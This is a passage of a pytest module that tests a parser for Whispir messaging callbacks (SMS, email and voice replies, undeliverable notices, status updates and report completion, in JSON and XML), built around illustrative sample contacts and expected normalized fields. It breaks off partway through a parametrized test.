"""Tests for the Whispir callback parser: every documented variant, normalized.

The samples in receiver/samples/whispir/ are written from Whispir's callback documents
(replies, undeliverable notices, status changes, report completion; JSON and XML, in
every spelling the documents use). Each one has a full expected normalization in
``EXPECTED``; the focused tests below pin one behaviour each.
"""

from __future__ import annotations

import json
import re
import threading
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from receiver import Contact, Event, EventType, PayloadError, UnsupportedPayload
from receiver.providers import WhispirProvider

SAMPLES = Path(__file__).parent.parent / "receiver" / "samples" / "whispir"
RECEIVED_AT = datetime(2024, 3, 14, 9, 6, 30, tzinfo=UTC)
EVENT_ID = "0190e7a1-2b3c-7d4e-8f90-a1b2c3d4e5f6"
CHANNEL = "whispir-au"
MELBOURNE = ZoneInfo("Australia/Melbourne")
NS2 = 'xmlns:ns2="http://schemas.api.whispir.com"'


def sample(name: str) -> bytes:
    """The bytes of one Whispir sample, exactly as stored."""
    return (SAMPLES / name).read_bytes()


def parse(body: bytes, *, timezone: str | Any = "UTC", **kwargs: Any) -> Event:
    """Parse with fixed id/received_at/channel so whole events can be compared."""
    kwargs.setdefault("channel", CHANNEL)
    kwargs.setdefault("received_at", RECEIVED_AT)
    kwargs.setdefault("event_id", EVENT_ID)
    return WhispirProvider(timezone=timezone).parse(body, **kwargs)


def utc(year: int, month: int, day: int, hour: int, minute: int) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=UTC)


def reply_json(**overrides: Any) -> dict[str, Any]:
    """A plain SMS reply as a JSON-ready dict; keyword arguments replace top-level keys."""
    body: dict[str, Any] = {
        "messageId": "3F1C7A9E0B2D4C68A5E1",
        "messageLocation": "https://api.au.whispir.com/messages/3F1C7A9E0B2D4C68A5E1",
        "from": {
            "name": "Olivia Nguyen",
            "mri": "Olivia_Nguyen.704215.Acme@Contact.whispir.com",
            "mobile": "61412345678",
            "email": "olivia.nguyen@example.com.au",
            "voice": "61398765432",
        },
        "responseMessage": {
            "channel": "SMS",
            "acknowledged": "09/01/13 13:22",
            "content": "Yes, I accept.",
        },
    }
    body.update(overrides)
    return {key: value for key, value in body.items() if value is not ...}


def status_json(old: str | None, new: str, sender: dict[str, str] | None = None) -> bytes:
    body: dict[str, Any] = {
        "messageId": "7E8F9A0B1C2D43E4F5A6",
        "from": sender
        if sender is not None
        else {
            "name": "John Waters",
            "mri": "John_Waters.528798.Acme@Contact.whispir.com",
            "mobile": "61430984567",
            "email": "john.waters@example.com.au",
            "voice": "61761881564",
        },
        "newStatus": {"status": new, "timestamp": "09/01/13 13:22"},
    }
    if old is not None:
        body["oldStatus"] = {"status": old, "timestamp": "09/01/13 13:21"}
    return json.dumps(body).encode()


def encode(body: Any) -> bytes:
    return json.dumps(body).encode()


# --------------------------------------------------------------------------------------
# Full expected normalization of every sample
# --------------------------------------------------------------------------------------

OLIVIA = Contact(
    name="Olivia Nguyen",
    mri="Olivia_Nguyen.704215.Acme@Contact.whispir.com",
    mobile="61412345678",
    email="olivia.nguyen@example.com.au",
    voice="61398765432",
)
JOHN = Contact(
    name="John Waters",
    mri="John_Waters.528798.Acme@Contact.whispir.com",
    mobile="61430984567",
    email="john.waters@example.com.au",
    voice="61761881564",
)

EXPECTED: dict[str, dict[str, Any]] = {
    "reply_sms.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "3F1C7A9E0B2D4C68A5E1",
        "location": "https://api.au.whispir.com/messages/3F1C7A9E0B2D4C68A5E1",
        "source": "61412345678",
        "medium": "sms",
        "text": "Yes, I accept. Will I need to bring steel cap boots?",
        "occurred_at": utc(2013, 1, 9, 13, 22),
        "provider_timestamp": "09/01/13 13:22",
        "sender": OLIVIA,
    },
    "reply_sms_lowercase.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "8B04D2E6F1A34C7990BD",
        "location": "https://api.au.whispir.com/messages/8B04D2E6F1A34C7990BD",
        "source": "61423456789",
        "medium": "sms",
        "text": "Running 10 min late, sorry",
        "occurred_at": utc(2024, 5, 17, 8, 41),
        "provider_timestamp": "17/05/24 08:41",
        "sender": Contact(
            name="Jack Thompson",
            mri="Jack_Thompson.611902.Acme@Contact.whispir.com",
            mobile="61423456789",
            email="jack.thompson@example.net.au",
            voice="61287654321",
        ),
    },
    "reply_sms_location.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "C5E8A17F2D9B40E3A6C4",
        "location": "https://api.au.whispir.com/workspaces/FDD8348CBBED939FCAC"
        "/messages/C5E8A17F2D9B40E3A6C4",
        "source": "61434567890",
        "medium": "sms",
        "text": "N",
        "occurred_at": utc(2024, 4, 3, 10, 15),
        "provider_timestamp": "03/04/24 10:15",
        "sender": Contact(
            name="Priya Sharma",
            mri="Priya_Sharma.530177.Acme@Contact.whispir.com",
            mobile="61434567890",
            email="priya.sharma@example.org.au",
            voice="61734567890",
        ),
    },
    "reply_sms_custom_paramters.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "0A9D3C6B8E2F41D7B5A3",
        "location": "https://api.au.whispir.com/messages/0A9D3C6B8E2F41D7B5A3",
        "source": "61456789012",
        "medium": "sms",
        "text": "Y",
        "occurred_at": utc(2023, 11, 22, 16, 7),
        "provider_timestamp": "22/11/23 16:07",
        "sender": Contact(
            name="Liam O'Connor",
            mri="Liam_OConnor.884310.Acme@Contact.whispir.com",
            mobile="61456789012",
            email="liam.oconnor@example.com.au",
            voice="61456789012",
        ),
        "custom": {"CustomerID": "CUST-000482", "BookingRef": "BK-2023-11873", "Attempt": "2"},
    },
    "reply_sms_custom_parameters.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "E27B5F0C4A8D46B1930F",
        "location": "https://api.au.whispir.com/messages/E27B5F0C4A8D46B1930F",
        "source": "61467890123",
        "medium": "sms",
        "text": "Can we move it to Thursday?",
        "occurred_at": utc(2024, 2, 28, 19, 48),
        "provider_timestamp": "28/02/24 19:48",
        "sender": Contact(
            name="Chloe Williams",
            mri="Chloe_Williams.290455.Acme@Contact.whispir.com",
            mobile="61467890123",
            email="chloe.williams@example.com",
            voice="61267890123",
        ),
        "custom": {"CustomID": "7f3a9c2e5b1d4e8f", "CustomID2": "ticket-55120"},
    },
    "reply_email.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "9D6E2B4A1C7F48E0A3B8",
        "location": "https://api.au.whispir.com/messages/9D6E2B4A1C7F48E0A3B8",
        "source": "mei.chen@example.com.au",
        "medium": "email",
        "text": "Thanks, I have received the roster and will be there on Monday.\n\nRegards,\nMei",
        "occurred_at": utc(2024, 6, 11, 7, 30),
        "provider_timestamp": "11/06/24 07:30",
        "sender": Contact(
            name="Mei Chen",
            mri="Mei_Chen.418266.Acme@Contact.whispir.com",
            mobile="61478901234",
            email="mei.chen@example.com.au",
            voice="61378901234",
        ),
    },
    "reply_voice.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "4C1A8F7E3B6D42C9A0E5",
        "location": "https://api.au.whispir.com/messages/4C1A8F7E3B6D42C9A0E5",
        "source": "61889012345",
        "medium": "voice",
        "text": "1",
        "occurred_at": utc(2024, 8, 5, 14, 2),
        "provider_timestamp": "05/08/24 14:02",
        "sender": Contact(
            name="Noah Papadopoulos",
            mri="Noah_Papadopoulos.377041.Acme@Contact.whispir.com",
            mobile="61489012345",
            email="noah.p@example.net",
            voice="61889012345",
        ),
    },
    "reply_channel_na.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "B8F3E0D6A2C94175B7D1",
        "location": "https://api.au.whispir.com/messages/B8F3E0D6A2C94175B7D1",
        "source": "61490123456",
        "medium": None,
        "text": "Acknowledged via the web portal",
        "occurred_at": utc(2023, 12, 30, 23, 59),
        "provider_timestamp": "30/12/23 23:59",
        "sender": Contact(
            name="Isabella Rossi",
            mri="Isabella_Rossi.652983.Acme@Contact.whispir.com",
            mobile="61490123456",
            email="isabella.rossi@example.com.au",
            voice="61390123456",
        ),
    },
    "undeliverable.json": {
        "type": EventType.undeliverable,
        "provider_type": "deliveryresponse",
        "message_id": "6E0B9A3D7C5F48A2B1E9",
        "location": "https://api.au.whispir.com/messages/6E0B9A3D7C5F48A2B1E9",
        "source": "61491570156",
        "medium": "sms",
        "status": "failed",
        "occurred_at": utc(2024, 3, 14, 9, 5),
        "provider_timestamp": "14/03/24 09:05",
        "sender": Contact(
            name="Ethan Walker",
            mri="Ethan_Walker.145620.Acme@Contact.whispir.com",
            mobile="61491570156",
        ),
    },
    "undeliverable.xml": {
        "type": EventType.undeliverable,
        "provider_type": "deliveryresponse",
        "message_id": "2D7A4E9B0F3C46D8A5B2",
        "location": "https://api.au.whispir.com/messages/2D7A4E9B0F3C46D8A5B2",
        "source": "61491570159",
        "medium": "sms",
        "text": "Reminder: your appointment is at 10:30am tomorrow. Reply Y to confirm.",
        "status": "failed",
        "occurred_at": utc(2024, 7, 1, 11, 45),
        "provider_timestamp": "01/07/24 11:45",
        "sender": Contact(
            name="Sophie Martin",
            mri="Sophie_Martin.903318.Acme@Contact.whispir.com",
            mobile="61491570159",
            email="sophie.martin@example.com.au",
        ),
    },
    "reply_sms_ns2.xml": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "A4B7C0D3E6F94A2B8C5D",
        "location": "https://api.au.whispir.com/messages/A4B7C0D3E6F94A2B8C5D",
        "source": "61412345678",
        "medium": "sms",
        "text": "Yes, I accept. Will I need to bring steel cap boots & gloves?",
        "occurred_at": utc(2013, 1, 9, 13, 22),
        "provider_timestamp": "09/01/13 13:22",
        "sender": Contact(
            name="Fred Waters",
            mri="Fred_Waters.528798.Acme@Contact.whispir.com",
            mobile="61412345678",
            email="fred.waters@example.com.au",
            voice="61398765432",
        ),
    },
    "reply_sms_default_ns.xml": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "F0E1D2C3B4A5968778A9",
        "location": "https://api.au.whispir.com/messages/F0E1D2C3B4A5968778A9",
        "source": "61400111222",
        "medium": "sms",
        "text": "Merry Christmas to you too!",
        "occurred_at": utc(2023, 12, 25, 6, 0),
        "provider_timestamp": "25/12/23 06:00",
        "sender": Contact(
            name="Grace Kelly",
            mri="Grace_Kelly.337790.Acme@Contact.whispir.com",
            mobile="61400111222",
            email="grace.kelly@example.com",
            voice="61299887766",
        ),
    },
    "reply_sms_camel.xml": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "1B2C3D4E5F60718293A4",
        "location": "https://api.au.whispir.com/messages/1B2C3D4E5F60718293A4",
        "source": "61433221100",
        "medium": "sms",
        "text": "STOP",
        "occurred_at": utc(2024, 10, 12, 21, 17),
        "provider_timestamp": "12/10/24 21:17",
        "sender": Contact(
            name="Harrison Lee",
            mri="Harrison_Lee.202114.Acme@Contact.whispir.com",
            mobile="61433221100",
            email="harrison.lee@example.org",
            voice="61733221100",
        ),
    },
    "reply_sms_custom_parameters.xml": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "5A6B7C8D9E0F41A2B3C4",
        "location": "https://api.au.whispir.com/messages/5A6B7C8D9E0F41A2B3C4",
        "source": "61444555666",
        "medium": "sms",
        "text": "Yes please",
        "occurred_at": utc(2024, 9, 19, 12, 34),
        "provider_timestamp": "19/09/24 12:34",
        "sender": Contact(
            name="Zoe Anderson",
            mri="Zoe_Anderson.771406.Acme@Contact.whispir.com",
            mobile="61444555666",
            email="zoe.anderson@example.com.au",
            voice="61844555666",
        ),
        "custom": {
            "CustomID": "890h0ef0fe09efw90e0jsdj0",
            "CustomID2": "9ef0fe09efw90e0jsdjsd43fw",
        },
    },
    "status_sent.xml": {
        "type": EventType.receipt,
        "provider_type": "statuscallback",
        "message_id": "7E8F9A0B1C2D43E4F5A6",
        "destination": "61430984567",
        "status": "sent",
        "provider_status": "SENT",
        "previous_status": "pending",
        "occurred_at": utc(2013, 1, 9, 13, 22),
        "provider_timestamp": "09/01/13 13:22",
        "sender": JOHN,
    },
    "status_sent.json": {
        "type": EventType.receipt,
        "provider_type": "statuscallback",
        "message_id": "7E8F9A0B1C2D43E4F5A6",
        "destination": "61430984568",
        "status": "sent",
        "provider_status": "SENT",
        "previous_status": "pending",
        "occurred_at": utc(2013, 1, 9, 13, 22),
        "provider_timestamp": "09/01/13 13:22",
        "sender": Contact(
            name="Steve Harris",
            mri="Steve_Harris.528799.Acme@Contact.whispir.com",
            mobile="61430984568",
            email="steve.harris@example.com.au",
            voice="61761881565",
        ),
    },
    "status_undeliverable.xml": {
        "type": EventType.receipt,
        "provider_type": "statuscallback",
        "message_id": "7E8F9A0B1C2D43E4F5A6",
        "destination": "61491570110",
        "status": "failed",
        "provider_status": "UNDELIVERABLE",
        "previous_status": "sent",
        "occurred_at": utc(2013, 1, 9, 13, 24),
        "provider_timestamp": "09/01/13 13:24",
        "sender": Contact(
            name="Steve Harris",
            mri="Steve_Harris.528799.Acme@Contact.whispir.com",
            mobile="61491570110",
            email="steve.harris@example.com.au",
        ),
    },
    "status_received.json": {
        "type": EventType.receipt,
        "provider_type": "statuscallback",
        "message_id": "7E8F9A0B1C2D43E4F5A6",
        "location": "https://api.au.whispir.com/workspaces/FDD8348CBBED939FCAC"
        "/messages/7E8F9A0B1C2D43E4F5A6",
        "destination": "61430984567",
        "status": "delivered",
        "provider_status": "RCVD",
        "previous_status": "sent",
        "occurred_at": utc(2013, 1, 9, 13, 23),
        "provider_timestamp": "09/01/13 13:23",
        "sender": JOHN,
    },
    "status_acknowledged.xml": {
        "type": EventType.receipt,
        "provider_type": "statuscallback",
        "message_id": "7E8F9A0B1C2D43E4F5A6",
        "location": "https://api.au.whispir.com/messages/7E8F9A0B1C2D43E4F5A6",
        # no mobile in this one: the first address they have is the email
        "destination": "john.waters@example.com.au",
        "status": "acknowledged",
        "provider_status": "Acknowledged",
        "previous_status": "delivered",
        "occurred_at": utc(2013, 1, 9, 13, 31),
        "provider_timestamp": "09/01/13 13:31",
        "sender": Contact(
            name="John Waters",
            mri="John_Waters.528798.Acme@Contact.whispir.com",
            email="john.waters@example.com.au",
            voice="61761881564",
        ),
    },
    "report_completion.xml": {
        "type": EventType.report,
        "provider_type": "reportcompletion",
        "report_id": "D3C2B1A0F9E84D7C6B5A",
        "output_location": "https://reports.au.whispir.com/exports/D3C2B1A0F9E84D7C6B5A"
        "/message-summary.csv",
        "occurred_at": utc(2024, 2, 2, 3, 15),
        "provider_timestamp": "02/02/24 03:15",
    },
    "report_completion.json": {
        "type": EventType.report,
        "provider_type": "reportcompletion",
        "report_id": "91A8B7C6D5E4F3A2B1C0",
        "output_location": "https://reports.au.whispir.com/exports/91A8B7C6D5E4F3A2B1C0"
        "/responses-2023.csv",
        "occurred_at": utc(2024, 1, 31, 22, 50),
        "provider_timestamp": "31/01/24 22:50",
    },
    "reply_sms_wrapped.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "0F1E2D3C4B5A69788796",
        "location": "https://api.au.whispir.com/messages/0F1E2D3C4B5A69788796",
        "source": "61411222333",
        "medium": "sms",
        "text": "On my way",
        "occurred_at": utc(2024, 8, 8, 8, 8),
        "provider_timestamp": "08/08/24 08:08",
        "sender": Contact(
            name="Ava Robinson",
            mri="Ava_Robinson.160255.Acme@Contact.whispir.com",
            mobile="61411222333",
            email="ava.robinson@example.com.au",
            voice="61311222333",
        ),
    },
    "reply_sms_odd_case.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "AB12CD34EF56AB78CD90",
        "location": "https://api.au.whispir.com/messages/AB12CD34EF56AB78CD90",
        "source": "61422333444",
        "medium": "sms",
        "text": "yes",
        "occurred_at": utc(2024, 12, 13, 17, 45),
        "provider_timestamp": "13/12/24 17:45",
        "sender": Contact(
            name="William Brown",
            mri="William_Brown.449013.Acme@Contact.whispir.com",
            mobile="61422333444",
            email="william.brown@example.com.au",
            voice="61222333444",
        ),
        "custom": {"JobNumber": "JOB-7731"},
    },
    "reply_sms_unknown_sender.json": {
        "type": EventType.message,
        "provider_type": "deliveryresponse",
        "message_id": "55AA66BB77CC88DD99EE",
        "location": "https://api.au.whispir.com/messages/55AA66BB77CC88DD99EE",
        "source": "61477888999",
        "medium": "sms",
        "text": "Who is this?",
        "occurred_at": utc(2024, 6, 21, 15, 0),
        "provider_timestamp": "21/06/24 15:00",
        "sender": Contact(mobile="61477888999"),
    },
}

# Every normalized field an Event has, with what a Whispir callback leaves it at.
DEFAULTS: dict[str, Any] = {
    "provider": "whispir",
    "channel": CHANNEL,
    "id": EVENT_ID,
    "received_at": RECEIVED_AT,
    "provider_type": None,
    "message_id": None,
    "location": None,
    "source": None,
    "destination": None,
    "text": None,
    "medium": None,
    "status": None,
    "provider_status": None,
    "previous_status": None,
    "occurred_at": None,
    "provider_timestamp": None,
    "sender": None,
    "custom": {},
    "metadata": {},
    "inbound": None,
    "test": None,
    "lookup": None,
    "reachable": None,
    "carrier": None,
    "number_type": None,
    "segments": None,
    "report_id": None,
    "output_location": None,
    "out_of_order": False,
}


def assert_event(event: Event, body: bytes, expected: dict[str, Any]) -> None:
    """Compare every normalized field at once (so a failure shows the whole diff)."""
    want = {**DEFAULTS, **expected, "raw": body}
    got = {name: getattr(event, name) for name in want}
    assert got == want
    # Equal aware datetimes may still differ in zone: pin the offset too.
    if want["occurred_at"] is not None:
        assert event.occurred_at is not None
        assert event.occurred_at.utcoffset() == want["occurred_at"].utcoffset()
    assert isinstance(event.type, EventType)
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in event.custom.items())


CANONICAL_TYPES = {".json": "application/json", ".xml": "application/xml"}
VENDOR_TYPES = {
    ".json": "application/vnd.whispir.message-v1+json",
    ".xml": "application/vnd.whispir.message-v1+xml",
}


@pytest.mark.parametrize("name", sorted(EXPECTED))
@pytest.mark.parametrize("content_type", ["sniffed", "canonical", "vendor"])
def test_whispir_sample_normalizes_every_field(name: str, content_type: str) -> None:
    body = sample(name)
    suffix = Path(name).suffix
    header = {"sniffed": None, "canonical": CANONICAL_TYPES, "vendor": VENDOR_TYPES}[content_type]
    event = parse(body, content_type=None if header is None else header[suffix])
    assert_event(event, body, EXPECTED[name])


def test_whispir_every_sample_file_has_expectations() -> None:
    on_disk = {path.name for path in SAMPLES.iterdir() if path.suffix in (".json", ".xml")}
    assert on_disk == set(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_whispir_samples_use_real_values_not_placeholders(name: str) -> None:
    text = sample(name).decode("utf-8")
    assert "$mobile" not in text
    assert "<region>" not in text
    mobiles = re.findall(r"\b61\d{9}\b", text)
    for number in mobiles:
        assert number.startswith(("614", "612", "613", "617", "618"))


# --------------------------------------------------------------------------------------
# Replies: spellings
# --------------------------------------------------------------------------------------


def test_whispir_reply_json_camel_case_keys() -> None:
    event = parse(sample("reply_sms.json"))
    assert event.type is EventType.message
    assert event.message_id == "3F1C7A9E0B2D4C68A5E1"
    assert event.location == "https://api.au.whispir.com/messages/3F1C7A9E0B2D4C68A5E1"
    assert event.text == "Yes, I accept. Will I need to bring steel cap boots?"
    assert event.status is None
    assert event.destination is None


def test_whispir_reply_json_all_lowercase_keys() -> None:
    event = parse(sample("reply_sms_lowercase.json"))
    assert event.message_id == "8B04D2E6F1A34C7990BD"
    assert event.location == "https://api.au.whispir.com/messages/8B04D2E6F1A34C7990BD"
    assert event.text == "Running 10 min late, sorry"
    assert event.sender is not None and event.sender.name == "Jack Thompson"


def test_whispir_reply_json_lowercase_ids_with_camel_response_message() -> None:
    # The "Callback Authorization" example mixes messageid/messagelocation with
    # responseMessage.
    body = reply_json(
        messageId=...,
        messageLocation=...,
        messageid="D1E2F3A4B5C6D7E8F9A0",
        messagelocation="https://api.au.whispir.com/messages/D1E2F3A4B5C6D7E8F9A0",
    )
    event = parse(encode(body))
    assert event.message_id == "D1E2F3A4B5C6D7E8F9A0"
    assert event.location == "https://api.au.whispir.com/messages/D1E2F3A4B5C6D7E8F9A0"
    assert event.text == "Yes, I accept."
    assert event.type is EventType.message


def test_whispir_reply_location_key_instead_of_message_location() -> None:
    event = parse(sample("reply_sms_location.json"))
    assert event.location == (
        "https://api.au.whispir.com/workspaces/FDD8348CBBED939FCAC/messages/C5E8A17F2D9B40E3A6C4"
    )
    assert event.message_id == "C5E8A17F2D9B40E3A6C4"


def test_whispir_reply_without_any_location_has_location_none() -> None:
    event = parse(encode(reply_json(messageLocation=...)))
    assert event.location is None
    assert event.message_id == "3F1C7A9E0B2D4C68A5E1"


def test_whispir_reply_xml_ns2_prefix() -> None:
    event = parse(sample("reply_sms_ns2.xml"), content_type="application/xml")
    assert event.provider_type == "deliveryresponse"
    assert event.message_id == "A4B7C0D3E6F94A2B8C5D"
    assert event.location == "https://api.au.whispir.com/messages/A4B7C0D3E6F94A2B8C5D"
    assert event.text == "Yes, I accept. Will I need to bring steel cap boots & gloves?"
    assert event.source == "61412345678"


def test_whispir_reply_xml_default_namespace_with_region() -> None:
    event = parse(sample("reply_sms_default_ns.xml"))
    assert event.provider_type == "deliveryresponse"
    assert event.message_id == "F0E1D2C3B4A5968778A9"
    assert event.text == "Merry Christmas to you too!"
    assert event.occurred_at == utc(2023, 12, 25, 6, 0)


def test_whispir_reply_xml_camel_message_location_and_response_message() -> None:
    event = parse(sample("reply_sms_camel.xml"))
    assert event.location == "https://api.au.whispir.com/messages/1B2C3D4E5F60718293A4"
    assert event.text == "STOP"
    assert event.medium == "sms"
    assert event.occurred_at == utc(2024, 10, 12, 21, 17)


def test_whispir_reply_xml_prefixed_child_elements() -> None:
    body = (
        f"<ns2:deliveryresponse {NS2}>"
        "<ns2:messageid>C0FFEE0123456789ABCD</ns2:messageid>"
        "<ns2:from><ns2:mobile>61412345678</ns2:mobile></ns2:from>"
        "<ns2:responsemessage><ns2:channel>SMS</ns2:channel>"
        "<ns2:acknowledged>09/01/13 13:22</ns2:acknowledged>"
        "<ns2:content>ok</ns2:content></ns2:responsemessage>"
        "</ns2:deliveryresponse>"
    ).encode()
    event = parse(body)
    assert event.message_id == "C0FFEE0123456789ABCD"
    assert event.text == "ok"
    assert event.source == "61412345678"
    assert event.sender == Contact(mobile="61412345678")


# --------------------------------------------------------------------------------------
# Replies: channel / medium / source
# --------------------------------------------------------------------------------------


def test_whispir_reply_email_source_is_the_email() -> None:
    event = parse(sample("reply_email.json"))
    assert event.medium == "email"
    assert event.source == "mei.chen@example.com.au"
    assert event.text is not None and event.text.endswith("Regards,\nMei")


def test_whispir_reply_voice_source_is_the_voice_number() -> None:
    event = parse(sample("reply_voice.json"))
    assert event.medium == "voice"
    assert event.source == "61889012345"
    assert event.text == "1"


def test_whispir_reply_channel_na_has_no_medium() -> None:
    event = parse(sample("reply_channel_na.json"))
    assert event.medium is None
    assert event.source == "61490123456"
    assert event.type is EventType.message


@pytest.mark.parametrize(
    ("channel", "medium", "source"),
    [
        ("SMS", "sms", "61412345678"),
        ("sms", "sms", "61412345678"),
        ("Email", "email", "olivia.nguyen@example.com.au"),
        ("EMAIL", "email", "olivia.nguyen@example.com.au"),
        ("Voice", "voice", "61398765432"),
        ("VOICE", "voice", "61398765432"),
        ("N/A", None, "61412345678"),
        ("n/a", None, "61412345678"),
    ],
)
def test_whispir_reply_channel_spellings(channel: str, medium: str | None, source: str) -> None:
    body = reply_json()
    body["responseMessage"]["channel"] = channel
    event = parse(encode(body))
    assert event.medium == medium
    assert event.source == source


def test_whispir_reply_without_from_has_no_sender_or_source() -> None:
    event = parse(encode(reply_json(**{"from": ...})))
    assert event.sender is None
    assert event.source is None
    assert event.text == "Yes, I accept."


def test_whispir_channel_argument_is_copied() -> None:
    event = parse(sample("reply_sms.json"), channel="whispir-callbacks-prod")
    assert event.channel == "whispir-callbacks-prod"
    assert parse(sample("reply_sms.json"), channel="").channel == ""


def test_whispir_default_channel_id_and_received_at() -> None:
    before = datetime.now(UTC)
    event = WhispirProvider().parse(sample("reply_sms.json"))
    after = datetime.now(UTC)
    assert event.channel == ""
    assert before <= event.received_at <= after
    assert uuid.UUID(event.id).version == 7
    assert WhispirProvider().parse(sample("reply_sms.json")).id != event.id


def test_whispir_raw_is_exactly_the_bytes_passed() -> None:
    body = b"\r\n  " + sample("reply_sms.json") + b"\n\n"
    event = parse(body)
    assert event.raw == body
    assert isinstance(event.raw, bytes)
    assert event.message_id == "3F1C7A9E0B2D4C68A5E1"
    xml = sample("reply_sms_ns2.xml")
    assert parse(xml).raw == xml


# --------------------------------------------------------------------------------------
# Senders and custom parameters
# --------------------------------------------------------------------------------------


def test_whispir_sender_blank_fields_become_none() -> None:
    event = parse(sample("reply_sms_unknown_sender.json"))
    assert event.sender == Contact(
        name=None, mri=None, mobile="61477888999", email=None, voice=None
    )
    assert event.source == "61477888999"


def test_whispir_sender_blank_xml_elements_become_none() -> None:
    event = parse(sample("undeliverable.xml"))
    assert event.sender is not None
    assert event.sender.voice is None
    assert event.sender.email == "sophie.martin@example.com.au"


def test_whispir_custom_paramters_typo_list_values_become_strings() -> None:
    event = parse(sample("reply_sms_custom_paramters.json"))
    assert event.custom == {
        "CustomerID": "CUST-000482",
        "BookingRef": "BK-2023-11873",
        "Attempt": "2",
    }
    assert isinstance(event.custom["Attempt"], str)


def test_whispir_custom_parameters_object() -> None:
    event = parse(sample("reply_sms_custom_parameters.json"))
    assert event.custom == {"CustomID": "7f3a9c2e5b1d4e8f", "CustomID2": "ticket-55120"}


def test_whispir_custom_parameters_xml_entries() -> None:
    event = parse(sample("reply_sms_custom_parameters.xml"))
    assert event.custom == {
        "CustomID": "890h0ef0fe09efw90e0jsdj0",
        "CustomID2": "9ef0fe09efw90e0jsdjsd43fw",
    }


def test_whispir_custom_parameters_xml_single_entry() -> None:
    body = (
        f"<ns2:deliveryresponse {NS2}><messageid>5A6B7C8D9E0F41A2B3C4</messageid>"
        "<responseMessage><channel>SMS</channel><acknowledged>19/09/24 12:34</acknowledged>"
        "<content>Y</content></responseMessage>"
        "<customParameters><entry><key>CustomID</key><value>42</value></entry>"
        "</customParameters></ns2:deliveryresponse>"
    ).encode()
    assert parse(body).custom == {"CustomID": "42"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (12345, "12345"),
        (0, "0"),
        (2.5, "2.5"),
        (True, "true"),
        ("007", "007"),
    ],
)
def test_whispir_custom_parameter_values_are_strings(value: Any, expected: str) -> None:
    body = reply_json(customParamters=[{"Value": value}])
    assert parse(encode(body)).custom == {"Value": expected}


def test_whispir_custom_parameters_absent_is_empty_dict() -> None:
    for name in (
        "reply_sms.json",
        "reply_sms_ns2.xml",
        "status_sent.xml",
        "report_completion.json",
    ):
        assert parse(sample(name)).custom == {}


def test_whispir_custom_parameter_names_keep_their_case() -> None:
    body = reply_json(customParameters={"customerId": "a", "CUSTOMERID": "b"})
    assert parse(encode(body)).custom == {"customerId": "a", "CUSTOMERID": "b"}


# --------------------------------------------------------------------------------------
# Undeliverable
# --------------------------------------------------------------------------------------


def test_whispir_undeliverable_json() -> None:
    event = parse(sample("undeliverable.json"))
    assert event.type is EventType.undeliverable
    assert event.status == "failed"
    assert event.provider_timestamp == "14/03/24 09:05"
    assert event.occurred_at == utc(2024, 3, 14, 9, 5)
    assert event.source == "61491570156"
    assert event.text is None


def test_whispir_undeliverable_xml() -> None:
    event = parse(sample("undeliverable.xml"))
    assert event.type is EventType.undeliverable
    assert event.status == "failed"
    assert event.provider_timestamp == "01/07/24 11:45"
    assert event.occurred_at == utc(2024, 7, 1, 11, 45)
    assert event.provider_type == "deliveryresponse"


# --------------------------------------------------------------------------------------
# Status callbacks
# --------------------------------------------------------------------------------------


def test_whispir_status_callback_xml_pend_to_sent() -> None:
    event = parse(sample("status_sent.xml"))
    assert event.type is EventType.receipt
    assert event.provider_type == "statuscallback"
    assert event.status == "sent"
    assert event.provider_status == "SENT"
    assert event.previous_status == "pending"
    assert event.destination == "61430984567"
    assert event.source is None
    assert event.medium is None
    assert event.text is None
    assert event.occurred_at == utc(2013, 1, 9, 13, 22)  # the new status's time


def test_whispir_status_callback_json_pend_to_sent() -> None:
    event = parse(sample("status_sent.json"))
    assert event.type is EventType.receipt
    assert event.provider_type == "statuscallback"
    assert (event.previous_status, event.status, event.provider_status) == (
        "pending",
        "sent",
        "SENT",
    )
    assert event.destination == "61430984568"
    assert event.source is None


def test_whispir_status_callback_to_undeliverable() -> None:
    event = parse(sample("status_undeliverable.xml"))
    assert event.type is EventType.receipt
    assert event.status == "failed"
    assert event.provider_status == "UNDELIVERABLE"
    assert event.previous_status == "sent"
    assert event.destination == "61491570110"


@pytest.mark.parametrize(
    ("raw", "normalized"),
    [
        ("PEND", "pending"),
        ("Pending", "pending"),
        ("SENT", "sent"),
        ("Sent", "sent"),
        ("RCVD", "delivered"),
        ("Received", "delivered"),
        ("ACKD", "acknowledged"),
        ("Acknowledged", "acknowledged"),
        ("Acknowleged", "acknowledged"),  # the documents' own typo
        ("UNDELIVERABLE", "failed"),
        ("Undeliverable", "failed"),
        ("QUEUED", "queued"),
        ("PartiallySent", "partially_sent"),
        ("Opted Out", "opted_out"),
        ("NO-ROUTE", "no_route"),
    ],
)
def test_whispir_status_values_are_normalized(raw: str, normalized: str) -> None:
    event = parse(status_json(raw, raw))
    assert event.status == normalized
    assert event.provider_status == raw
    assert event.previous_status == normalized


def test_whispir_status_callback_without_old_status() -> None:
    event = parse(status_json(None, "SENT"))
    assert event.type is EventType.receipt
    assert event.status == "sent"
    assert event.previous_status is None


@pytest.mark.parametrize(
    ("sender", "destination"),
    [
        (
            {"mobile": "61430984567", "email": "a@example.com", "voice": "61761881564"},
            "61430984567",
        ),
